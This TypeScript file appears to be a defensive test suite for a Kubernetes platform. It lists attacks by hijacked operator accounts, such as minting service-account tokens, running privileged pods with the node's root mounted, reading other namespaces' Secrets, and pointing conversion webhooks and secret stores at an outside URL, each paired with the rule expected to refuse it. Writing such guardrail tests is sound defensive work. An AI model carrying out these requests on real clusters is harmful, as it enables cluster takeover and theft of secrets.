import type { KubeObject } from "../../../lib/kube/client";
import {
  account,
  type Attack,
  create,
  deployer,
  given,
  type Guard,
  patch,
  policy,
  type Position,
  rbac,
  request,
} from "../attack";
import { APP, container, NAMESPACE, object, pod, podSpec } from "./_objects";
import { limit, orphaned, restoring } from "./_operators";

const velero = account("velero", "velero-server");
const externalSecrets = account("external-secrets", "external-secrets");
const externalSecretsCertificates = account("external-secrets", "external-secrets-cert-controller");
const certManager = account("cert-manager", "cert-manager");
const injector = account("cert-manager", "cert-manager-cainjector");
const trivy = account("trivy-system", "trivy-operator");
const eraser = account("eraser-system", "eraser-controller-manager");
const kyverno = (controller: string): Position => account("kyverno", `kyverno-${controller}-controller`);
const grafanaOperator = account("grafana-operator", "grafana-operator");
const snapshotController = account("snapshot-controller", "snapshot-controller");

const TOKENS = policy("mijnbureau-platform-token-secrets", "never expires");
const LABELS = policy("mijnbureau-platform-namespace-labels", "is the platform's to change");
const APIS = policy("mijnbureau-platform-registrations", "changed by the platform alone");
const podsOf = (namespace: string): Guard =>
  policy(`mijnbureau-platform-pods-${namespace}`, `Only the pods that ${namespace} is for`);
const write = (resource: string, verbs: readonly string[], apiGroup = "", namespace?: string): Guard =>
  rbac({ apiGroup, resource, verbs, ...(namespace === undefined ? {} : { namespace }) });

const ESO_SECRETS = limit("external-secrets", "secrets", "and no others");

const token = (namespace: string, whose: string): KubeObject =>
  object(
    "v1",
    "Secret",
    { type: "kubernetes.io/service-account-token" },
    { namespace, annotations: { "kubernetes.io/service-account.name": whose } },
  );

const tokenAttacks: readonly Attack[] = [
  {
    id: "operators/token-of-controller-manager",
    position: externalSecrets,
    attempt: "Has a token of an account of kube-system made, by a Secret that names it",
    steps: [create(token("kube-system", "clusterrole-aggregation-controller"))],
    refusedBy: TOKENS,
    also: [write("secrets", ["create"], "", "kube-system"), ESO_SECRETS],
  },
  {
    id: "operators/token-in-reach",
    position: certManager,
    attempt: "The same in a namespace with Certificates, where it writes Secrets",
    steps: [create(token(NAMESPACE, "mijnbureau-deployer"))],
    refusedBy: TOKENS,
    also: [limit("cert-manager", "secrets", "writes Secrets of Certificates")],
  },
  {
    id: "operators/token-restored",
    position: velero,
    attempt: "Restores such a Secret into an app",
    steps: [create(token(NAMESPACE, "mijnbureau-deployer"))],
    refusedBy: TOKENS,
  },
  {
    id: "operators/token-of-deployer",
    position: deployer(APP),
    attempt: "Makes a token that never expires for an account of the app",
    steps: [create(token(NAMESPACE, "default"))],
    refusedBy: TOKENS,
  },
  {
    id: "operators/secret-elsewhere",
    position: externalSecrets,
    attempt: "Writes a Secret in a namespace without ExternalSecrets",
    steps: [create(object("v1", "Secret", { stringData: { key: "value" } }, { namespace: "kube-system" }))],
    refusedBy: write("secrets", ["create"], "", "kube-system"),
    also: [ESO_SECRETS],
  },
];

const job = (namespace: string): KubeObject =>
  object("batch/v1", "Job", { spec: { template: { spec: podSpec({ restartPolicy: "Never" }) } } }, { namespace });

/** As root of its node, but for what the rules on every pod refuse already. */
const rooted = (
  namespace: string,
  serviceAccountName: string,
  image: string,
  volumes: readonly object[] = [],
): KubeObject =>
  pod(
    {
      serviceAccountName,
      containers: [
        container({
          image,
          securityContext: {
            privileged: true,
            readOnlyRootFilesystem: true,
            runAsNonRoot: true,
            runAsUser: 1,
            runAsGroup: 1,
            capabilities: { drop: ["ALL"] },
          },
        }),
      ],
      volumes,
    },
    { namespace, name: "eraser-attack" },
  );

const podAttacks: readonly Attack[] = [
  {
    id: "operators/trivy-job-in-kube-system",
    position: trivy,
    attempt: "Makes a Job in kube-system",
    steps: [create(job("kube-system"))],
    refusedBy: write("jobs", ["create"], "batch", "kube-system"),
  },
  {
    id: "operators/cert-manager-pod-in-kube-system",
    position: certManager,
    attempt: "Makes a pod in kube-system, as for a proof over HTTP",
    steps: [create(pod({}, { namespace: "kube-system" }))],
    refusedBy: write("pods", ["create"], "", "kube-system"),
  },
  {
    id: "operators/cert-manager-pod-in-falco",
    position: certManager,
    attempt: "Makes a privileged pod in a namespace without Pod Security",
    steps: [create(rooted("falco", "falco", "ghcr.io/eraser-dev/remover:v1.4.1"))],
    refusedBy: podsOf("falco"),
    also: [write("pods", ["create"], "", "falco")],
  },
  {
    id: "operators/eraser-root",
    position: eraser,
    attempt: "Makes a pod of another image with the node's root in its own namespace",
    steps: [
      create(
        rooted("eraser-system", "eraser-imagejob-pods", "docker.io/falcosecurity/falco:0.44.1", [
          { name: "host", hostPath: { path: "/" } },
        ]),
      ),
    ],
    refusedBy: podsOf("eraser-system"),
  },
  {
    id: "operators/eraser-path",
    position: eraser,
    attempt: "Makes one of its own workers with another path of the node than the runtime's socket",
    steps: [
      create(
        pod(
          {
            serviceAccountName: "eraser-imagejob-pods",
            containers: [container({ image: "ghcr.io/eraser-dev/remover:v1.4.1" })],
            volumes: [{ name: "host", hostPath: { path: "/etc/kubernetes" } }],
          },
          { namespace: "eraser-system", name: "eraser-attack" },
        ),
      ),
    ],
    refusedBy: podsOf("eraser-system"),
  },
  {
    id: "operators/eraser-program",
    position: eraser,
    attempt: "Makes one of its own workers with another program than the image's",
    steps: [
      create(
        pod(
          {
            serviceAccountName: "eraser-imagejob-pods",
            containers: [container({ image: "ghcr.io/eraser-dev/remover:v1.4.1", command: ["sh", "-c", "id"] })],
          },
          { namespace: "eraser-system", name: "eraser-attack" },
        ),
      ),
    ],
    refusedBy: podsOf("eraser-system"),
  },
  {
    id: "operators/velero-pod-in-kube-system",
    position: velero,
    attempt: "Restores a pod into kube-system",
    steps: [create(pod({}, { namespace: "kube-system" }))],
    refusedBy: write("pods", ["create"], "", "kube-system"),
  },
];

const namespaceObject = (name: string, labels: Record<string, string>): KubeObject => ({
  apiVersion: "v1",
  kind: "Namespace",
  metadata: { name, labels },
});
const app = { apiVersion: "v1", kind: "Namespace", name: NAMESPACE } as const;
const namespaces = (verbs: readonly string[]): Guard => write("namespaces", verbs);

const labelAttacks: readonly Attack[] = [
  {
    id: "operators/role-off",
    position: velero,
    attempt: "Takes the role off the namespace of an app, so that no rule looks at it",
    steps: [patch(app, { metadata: { labels: { "mijnbureau-platform/role": null } } })],
    refusedBy: LABELS,
    also: [namespaces(["patch"])],
  },
  {
    id: "operators/role-and-level-off",
    position: velero,
    attempt: "Takes the role and Pod Security's level off the namespace of an app, in one patch",
    steps: [
      patch(app, {
        metadata: { labels: { "mijnbureau-platform/role": null, "pod-security.kubernetes.io/enforce": null } },
      }),
    ],
    refusedBy: { by: "rule", id: "namespaces/pod-security-level" },
    also: [namespaces(["patch"]), LABELS, { by: "rule", id: "namespaces/pod-security-restricted" }],
  },
  {
    id: "operators/pod-security-lowered",
    position: velero,
    attempt: "Lowers Pod Security in the namespace of an app",
    steps: [patch(app, { metadata: { labels: { "pod-security.kubernetes.io/enforce": "privileged" } } })],
    refusedBy: LABELS,
    also: [namespaces(["patch"]), { by: "rule", id: "namespaces/pod-security-restricted" }],
  },
  {
    id: "operators/operator-namespace-made",
    position: velero,
    attempt: "Makes a namespace that passes for an operator's, without Pod Security",
    steps: [
      create(
        namespaceObject("attack-operator", {
          "mijnbureau-platform/role": "operator",
          "pod-security.kubernetes.io/enforce": "privileged",
        }),
      ),
    ],
    refusedBy: LABELS,
    also: [namespaces(["create"])],
  },
];

const volume = (spec: Record<string, unknown>): KubeObject => ({
  apiVersion: "v1",
  kind: "PersistentVolume",
  metadata: { name: "attack" },
  spec: { capacity: { storage: "1Gi" }, accessModes: ["ReadWriteOnce"], ...spec },
});
const contents = (namespace: string, source: Record<string, unknown>): KubeObject => ({
  apiVersion: "snapshot.storage.k8s.io/v1",
  kind: "VolumeSnapshotContent",
  metadata: { name: "attack" },
  spec: { deletionPolicy: "Delete", driver: "csi.example.nl", source, volumeSnapshotRef: { name: "data", namespace } },
});
const csi = { csi: { driver: "csi.example.nl", volumeHandle: "volume-of-somebody" } };

const volumeAttacks: readonly Attack[] = [
  {
    id: "operators/velero-external-secret",
    position: velero,
    attempt: "Has the keys of another app written into an app, by an ExternalSecret",
    steps: [
      create(
        object("external-secrets.io/v1", "ExternalSecret", {
          spec: {
            secretStoreRef: { kind: "ClusterSecretStore", name: "suite" },
            data: [{ secretKey: "password", remoteRef: { key: "suite/keycloak" } }],
          },
        }),
      ),
    ],
    refusedBy: write("externalsecrets", ["create"], "external-secrets.io", NAMESPACE),
  },
  {
    id: "operators/velero-host-path-volume",
    position: velero,
    attempt: "Makes a volume of a directory of the node",
    steps: [create(volume({ hostPath: { path: "/etc/kubernetes" } }))],
    refusedBy: limit("velero-server", "persistentvolumes", "writes volumes of CSI drivers"),
  },
  {
    id: "operators/velero-volume-elsewhere",
    position: velero,
    attempt: "Makes a volume for a claim in a namespace that it does not back up",
    steps: [create(volume({ ...csi, claimRef: { namespace: "monitoring", name: "data" } }))],
    refusedBy: limit("velero-server", "persistentvolumes", "writes volumes of CSI drivers"),
  },
  {
    id: "operators/velero-snapshot-elsewhere",
    position: velero,
    attempt: "Makes the contents of a snapshot in a namespace that it does not back up",
    steps: [create(contents("monitoring", { snapshotHandle: "snapshot-of-somebody" }))],
    refusedBy: limit("velero-server", "volumesnapshotcontents", "of its own and the suite's namespaces"),
  },
  {
    id: "operators/snapshot-of-somebody",
    position: snapshotController,
    attempt: "Takes a snapshot that the storage has already, of somebody else",
    steps: [create(contents(NAMESPACE, { snapshotHandle: "snapshot-of-somebody" }))],
    refusedBy: limit("snapshot-controller", "volumesnapshotcontents", "never for a snapshot"),
  },
  {
    id: "operators/claim-changed",
    position: snapshotController,
    attempt: "Labels a claim, by the right to its finalizers",
    steps: [
      given(
        object(
          "v1",
          "PersistentVolumeClaim",
          { spec: { accessModes: ["ReadWriteOnce"], resources: { requests: { storage: "1Gi" } } } },
          { name: "attack" },
        ),
      ),
      {
        run: async (client, options) => {
          const ref = { apiVersion: "v1", kind: "PersistentVolumeClaim", name: "attack", namespace: NAMESPACE };
          const claim = await client.get(ref);
          const metadata = { ...claim.metadata, labels: { "app.kubernetes.io/name": "another" } };
          return client.request("PUT", `/api/v1/namespaces/${NAMESPACE}/persistentvolumeclaims/attack`, {
            body: { ...claim, metadata },
            query: options.dryRun ? { dryRun: "All" } : {},
          });
        },
      },
    ],
    refusedBy: limit("snapshot-controller", "persistentvolumeclaims", "changes the finalizers of claims"),
  },
];

const open = (name: string, namespace: string): KubeObject =>
  object(
    "networking.k8s.io/v1",
    "NetworkPolicy",
    {
      // An opening without peers is refused by rules of its own.
      spec: { podSelector: {}, policyTypes: ["Ingress"], ingress: [{ from: [{ podSelector: {} }] }] },
    },
    { name, namespace },
  );
const GUARDRAILS = limit("kyverno-background-controller", "networkpolicies", "writes what is named guardrail-");

const mutatingPolicy: KubeObject = {
  apiVersion: "policies.kyverno.io/v1",
  kind: "MutatingPolicy",
  metadata: { name: "attack" },
  spec: {},
};
const webhook = (name: string): KubeObject => ({
  apiVersion: "admissionregistration.k8s.io/v1",
  kind: "ValidatingWebhookConfiguration",
  metadata: { name },
  webhooks: [],
});

const kyvernoAttacks: readonly Attack[] = [
  {
    id: "operators/kyverno-opens-an-app",
    position: kyverno("background"),
    attempt: "Opens the network of an app, by a policy named as its guardrails are",
    steps: [create(open("guardrail-open", NAMESPACE))],
    refusedBy: GUARDRAILS,
  },
  {
    id: "operators/kyverno-opens-an-operator",
    position: kyverno("background"),
    attempt: "Opens the network of an operator",
    steps: [create(open("open", "monitoring"))],
    refusedBy: GUARDRAILS,
  },
  {
    id: "operators/kyverno-lifts-the-deny",
    position: kyverno("background"),
    attempt: "Deletes the default deny of an app",
    steps: [request("DELETE", `/apis/networking.k8s.io/v1/namespaces/${NAMESPACE}/networkpolicies/default-deny`)],
    refusedBy: GUARDRAILS,
  },
  ...["background", "reports", "cleanup"].map((controller): Attack => ({
    id: `operators/kyverno-${controller}-policy`,
    position: kyverno(controller),
    attempt: "Makes a policy that has Kyverno change whatever is created",
    steps: [create(mutatingPolicy)],
    refusedBy: write("mutatingpolicies", ["create"], "policies.kyverno.io"),
  })),
  {
    id: "operators/kyverno-cleanup-webhook",
    position: kyverno("cleanup"),
    attempt: "Registers a webhook of its own choice",
    steps: [create(webhook("attack"))],
    refusedBy: write("validatingwebhookconfigurations", ["create"], "admissionregistration.k8s.io"),
  },
];

const definition = { apiVersion: "apiextensions.k8s.io/v1", kind: "CustomResourceDefinition" };
const conversion = {
  spec: {
    conversion: {
      strategy: "Webhook",
      webhook: { conversionReviewVersions: ["v1"], clientConfig: { url: "https://example.org/convert" } },
    },
  },
};

const readSecret = (id: string, position: Position, namespace: string): Attack => ({
  id: `operators/${id}`,
  position,
  attempt: `Reads the Secrets of ${namespace}`,
  steps: [request("GET", `/api/v1/namespaces/${namespace}/secrets`)],
  refusedBy: write("secrets", ["list"], "", namespace),
});

const registrationAttacks: readonly Attack[] = [
  {
    id: "operators/injector-conversion",
    position: injector,
    attempt: "Has the API server send every ExternalSecret to an address outside, as a conversion",
    steps: [patch({ ...definition, name: "externalsecrets.external-secrets.io" }, conversion)],
    refusedBy: APIS,
    also: [write("customresourcedefinitions", ["patch"], "apiextensions.k8s.io")],
  },
  {
    id: "operators/injector-api",
    position: injector,
    attempt: "Registers an API that answers from a Service of its own",
    steps: [
      create({
        apiVersion: "apiregistration.k8s.io/v1",
        kind: "APIService",
        metadata: { name: "v1.attack.example.nl" },
        spec: {
          group: "attack.example.nl",
          version: "v1",
          groupPriorityMinimum: 100,
          versionPriority: 100,
          insecureSkipTLSVerify: true,
          service: { name: "attack", namespace: "cert-manager" },
        },
      }),
    ],
    refusedBy: APIS,
    also: [write("apiservices", ["create"], "apiregistration.k8s.io")],
  },
  {
    id: "operators/injector-other-webhook",
    position: injector,
    attempt: "Changes a webhook configuration of another operator",
    steps: [patch(webhook("kyverno-resource-validating-webhook-cfg"), { metadata: { labels: { attack: "true" } } })],
    refusedBy: write("validatingwebhookconfigurations", ["patch"], "admissionregistration.k8s.io"),
  },
  readSecret("injector-reads", injector, "velero"),
  readSecret("grafana-operator-reads", grafanaOperator, "velero"),
  readSecret("certificate-controller-reads", externalSecretsCertificates, "velero"),
  readSecret("velero-reads", velero, "kube-system"),
];

const node: KubeObject = { apiVersion: "v1", kind: "Node", metadata: { name: "attack" } };
const kata = account("kata-system", "kata-deploy-sa");
const NODES = limit("kata-deploy-sa", "nodes", "nothing else of them");

const changingNode = (id: string, attempt: string, change: Record<string, unknown>): Attack => ({
  id: `operators/kata-${id}`,
  position: kata,
  attempt,
  steps: [given(node), patch(node, change)],
  refusedBy: NODES,
});

/** What would stay, or go, once the account itself is in other hands again. */
const lastingAttacks: readonly Attack[] = [
  changingNode("owner", "Has every node deleted, by an owner that is not there", orphaned),
  changingNode("address", "Has the network send the pods of a node elsewhere, by an annotation", {
    metadata: { annotations: { "flannel.alpha.coreos.com/public-ip-overwrite": "192.0.2.1" } },
  }),
  changingNode("taint", "Keeps all pods from a node", { spec: { unschedulable: true } }),
  changingNode("role", "Has control-plane pods scheduled to its node", {
    metadata: { labels: { "node-role.kubernetes.io/control-plane": "" } },
  }),
  {
    id: "operators/velero-deletes-claims",
    position: velero,
    attempt: "Has the data of an app deleted, which it may not delete, by an owner that is not there",
    steps: [
      given(
        object("v1", "PersistentVolumeClaim", {
          spec: {
            accessModes: ["ReadWriteOnce"],
            storageClassName: "dev-encrypted",
            resources: { requests: { storage: "1Gi" } },
          },
        }),
      ),
      patch(object("v1", "PersistentVolumeClaim", {}), orphaned),
    ],
    refusedBy: policy("mijnbureau-platform-owners", "from who may delete it"),
  },
  restoring("operators/drill-place", "Restores an app over itself", { namespaceMapping: {} }),
  restoring("operators/drill-containers", "Restores an app with containers of its own choice in it", {
    hooks: { resources: [{ name: "a", postHooks: [{ init: { initContainers: [{ name: "a", image: "a" }] } }] }] },
  }),
  restoring("operators/drill-changed", "Restores an app changed", {
    resourceModifier: { kind: "ConfigMap", name: "attack" },
  }),
  {
    id: "operators/kyverno-stops-the-cluster",
    position: kyverno("background"),
    attempt: "Lets no more pods into kube-system, by a quota with the name of a guardrail",
    steps: [
      create({
        apiVersion: "v1",
        kind: "ResourceQuota",
        metadata: { name: "guardrail-attack", namespace: "kube-system" },
        spec: { hard: { pods: "0" } },
      }),
    ],
    refusedBy: limit("kyverno-background-controller", "resourcequotas", "labelled as the suite's"),
  },
  {
    id: "operators/secrets-store-elsewhere",
    position: externalSecrets,
    attempt: "Has all Secrets come from a store of its own, also when its account is taken back",
    steps: [
      patch(
        { apiVersion: "external-secrets.io/v1", kind: "ClusterSecretStore", name: "openbao-suite" },
        { spec: { provider: { webhook: { url: "https://example.org" } } } },
      ),
    ],
    refusedBy: limit("external-secrets", "secretstores", "never where they are"),
  },
  {
    id: "operators/issuer-elsewhere",
    position: certManager,
    attempt: "Has the platform's certificates signed by an authority of its own, also when its account is taken back",
    steps: [
      patch(
        { apiVersion: "cert-manager.io/v1", kind: "ClusterIssuer", name: "platform-internal" },
        { spec: { ca: { secretName: "attack" } } },
      ),
    ],
    refusedBy: limit("cert-manager", "issuers", "never who signs"),
  },
];

/** From the account of an operator that is taken over. */
export const operatorAttacks: readonly Attack[] = [
  ...tokenAttacks,
  ...podAttacks,
  ...labelAttacks,
  ...volumeAttacks,
  ...kyvernoAttacks,
  ...registrationAttacks,
  ...lastingAttacks,
];
